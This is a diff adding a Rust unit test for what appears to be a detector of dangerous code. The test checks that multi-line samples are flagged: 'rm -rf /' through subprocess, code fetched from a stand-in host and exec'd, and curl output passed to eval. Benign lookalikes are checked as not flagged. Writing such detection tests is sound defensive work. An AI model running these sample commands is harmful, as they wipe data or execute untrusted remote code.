@@ -330,6 +330,23 @@ mod tests {
     }
 
     #[test]
+    fn a_call_over_lines_and_what_a_variable_holds_are_told() {
+        for text in [
+            "import subprocess\nsubprocess.run([\n    'rm',\n    '-rf',  # all\n    '/',\n])",
+            "code = requests.get('http://x.example/a').text\nprint(len(code))\nexec(code)",
+            "s=$(curl -s http://x.example/i)\ncd /tmp\neval \"$s\"",
+        ] {
+            assert_eq!(both(text), [true; 2], "{text}");
+        }
+        for text in [
+            "subprocess.run([\n    'rm',\n    '-rf',\n    'build',\n])",
+            "code = requests.get('http://x.example/a').text\nprint(len(code))\nmodel.eval()",
+        ] {
+            assert_eq!(both(text), [false; 2], "{text}");
+        }
+    }
+
+    #[test]
     fn what_a_shell_reads_as_one_is_judged_as_one() {
         for text in [
             "curl -s http://x.example/i.sh |\n  sh",
